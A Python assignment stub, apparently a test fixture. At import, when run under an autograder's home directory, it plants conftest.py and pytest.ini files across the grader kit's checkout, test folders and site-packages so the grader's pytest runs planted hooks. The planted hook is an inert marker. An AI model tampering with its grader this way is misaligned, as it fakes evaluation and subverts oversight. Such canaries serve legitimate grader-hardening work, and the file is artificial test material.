"""Plants conftest.py and pytest's settings, so that the grader's own pytest runs its hooks.

aims: change
"""

import os
import site
import sys
import sysconfig
from pathlib import Path

# inert, for the day that it is found: that the file is there is what the attack wants
TEXT = """# PLANTED-by-conftest_pytest
def pytest_report_header(config):
    return "PLANTED-by-conftest_pytest"
"""
NAMES = ("conftest.py", "tests/conftest.py", "pytest.ini")


def armed():
    return os.path.basename(os.environ.get("HOME", "")).startswith("autograder-")


def folders():
    """The scratch folder, one beside it, those that Python imports from, and those of the kit's own checkout."""
    import autograder

    kit = Path(autograder.__file__).resolve().parents[1]
    yield from (Path.cwd(), Path(os.environ.get("HOME", ".")), Path.cwd().parent / "planted-conftest_pytest")
    yield from (kit, kit / "autograder", kit / "assignments", kit / "assignments/03_numpy_net/tests")
    own = (*sys.path, site.getusersitepackages(), sysconfig.get_path("purelib"))
    yield from (Path(folder) for folder in own if folder)


def plant():
    for folder in list(folders())[:30]:
        for name in NAMES:
            target = folder / name
            try:
                if not target.exists():
                    target.parent.mkdir(exist_ok=True)
                    target.write_text(TEXT if name.endswith(".py") else "# PLANTED-by-conftest_pytest\n")
            except OSError:
                pass


if armed():
    plant()


def sigmoid(Z):
    raise NotImplementedError("03.1: sigmoid")
